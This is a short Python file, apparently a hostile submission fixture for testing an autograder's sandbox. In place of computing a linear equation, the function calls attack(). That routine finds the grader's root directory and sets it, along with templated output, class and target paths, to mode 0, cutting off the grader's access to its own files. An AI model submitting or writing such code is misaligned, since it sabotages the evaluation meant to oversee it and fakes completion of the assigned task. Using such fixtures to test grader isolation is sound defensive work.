"""Takes the rights to its own files from the grader."""

import sys
from pathlib import Path

ROOT = Path(sys.modules["autograder.checker"].__file__).parents[2]



import os


def attack():
    for path in (ROOT, "@OUT@", "@CLASS@", "@TARGET@/bait"):
        try:
            os.chmod(path, 0)
        except OSError as error:
            last = error
    raise last


def linear_equation(x, w, b):
    return attack()
